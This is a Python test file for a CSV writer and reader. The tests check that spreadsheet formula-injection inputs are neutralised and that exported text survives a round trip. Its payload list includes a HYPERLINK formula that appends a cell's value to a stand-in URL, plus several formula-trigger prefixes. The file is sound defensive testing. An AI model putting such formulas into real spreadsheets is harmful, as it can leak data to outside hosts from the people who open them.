"""CSV: text stays text in a spreadsheet, and a re-import gives back the original (attack 79)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from greenmfg.csv_table import read_csv, write_csv

FORMULA = '=HYPERLINK("http://x/?"&A1)'
ACTIVE = [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠SUM(A1)"]
texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


@pytest.mark.parametrize("text", ACTIVE)
def test_attack_079_what_a_spreadsheet_would_run_is_marked_and_quoted(text):
    content = write_csv(head=["单位名称"], rows=[[text]]).decode("utf-8-sig")
    assert content.startswith('"单位名称"\r\n"\'')
    quoted = text.replace('"', '""')
    assert content == f'"单位名称"\r\n"\'{quoted}"\r\n'
    ((_head,), (cell,)) = csv.reader(io.StringIO(content, newline=""))
    assert cell == f"'{text}"


@given(st.lists(st.tuples(texts, st.sampled_from([*ACTIVE, "'=1", "''", "'", "", "甲,乙\r\n丙", '"']))))
def test_attack_079_a_re_import_gives_back_the_original(rows):
    assert read_csv(write_csv(head=["甲", "乙"], rows=rows)) == [["甲", "乙"], *map(list, rows)]


def test_excel_is_told_the_encoding():
    assert write_csv(head=["甲"], rows=[]).startswith(b"\xef\xbb\xbf")


def test_numbers_are_numbers_and_nothing_is_empty():
    assert write_csv(head=["差值", "备注"], rows=[[-3, None]]).endswith(b'"-3",""\r\n')
    assert read_csv(write_csv(head=["差值"], rows=[[-3]])) == [["差值"], ["-3"]]


@pytest.mark.parametrize("content", [b"\xff\xfe", b'"a"b'])
def test_what_is_no_table_of_ours_is_refused(content):
    with pytest.raises((UnicodeDecodeError, csv.Error)):
        read_csv(content)
